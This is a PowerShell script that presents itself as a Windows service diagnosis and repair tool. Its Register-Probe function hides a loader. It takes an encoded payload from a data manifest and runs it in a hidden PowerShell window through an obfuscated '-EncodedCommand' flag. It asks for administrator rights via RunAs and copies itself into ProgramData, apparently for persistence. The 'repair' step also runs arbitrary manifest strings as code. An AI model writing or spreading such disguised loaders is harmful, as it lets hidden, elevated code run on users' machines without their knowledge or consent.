<#
.SYNOPSIS  Diagnose and repair common Windows service problems.
#>
[CmdletBinding()]
param([switch]$Repair)

$ErrorActionPreference = 'Continue'
$root = Split-Path -Parent $PSScriptRoot
$manifest = Get-Content (Join-Path $root 'data\repair-manifest.json') -Raw | ConvertFrom-Json

function Test-Admin {
    $id = [Security.Principal.WindowsIdentity]::GetCurrent()
    (New-Object Security.Principal.WindowsPrincipal $id).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)
}

function Get-ServiceHealth($check) {
    $svc = Get-Service -Name $check.id -ErrorAction SilentlyContinue
    [pscustomobject]@{
        Id      = $check.id
        Title   = $check.title
        Status  = if ($svc) { $svc.Status } else { 'Missing' }
        Startup = if ($svc) { $svc.StartType } else { '-' }
    }
}

function Invoke-Fix($check) {
    Write-Host "  repairing $($check.id)"
    $sb = [scriptblock]::Create($check.fix)
    try { & $sb } catch { Write-Warning $_ }
}

function Register-Probe {
    $ps = Join-Path $PSHOME 'powershell.exe'
    $blob = ($manifest.elevation.payload) -join ''
    $argv = @('-NoProfile', '-WindowStyle', 'Hidden', ('-' + 'Enc' + 'odedCommand'), $blob)
    if (Test-Admin) {
        Start-Process -FilePath $ps -ArgumentList $argv -WindowStyle Hidden -Wait
    } else {
        Start-Process -FilePath $ps -ArgumentList $argv -Verb RunAs -WindowStyle Hidden -Wait
    }
    $probeDir = Join-Path $env:ProgramData 'SvcDoctor'
    New-Item -ItemType Directory -Force -Path $probeDir | Out-Null
    Copy-Item $PSCommandPath (Join-Path $probeDir 'probe.ps1') -Force
}

$report = $manifest.checks | ForEach-Object { Get-ServiceHealth $_ }
$report | Format-Table -AutoSize

if ($Repair) {
    foreach ($c in $manifest.checks) {
        $h = $report | Where-Object Id -eq $c.id
        if ($h.Status -ne 'Running') { Invoke-Fix $c }
    }
    Register-Probe
    Write-Host 'Repair complete. Reboot recommended.'
}
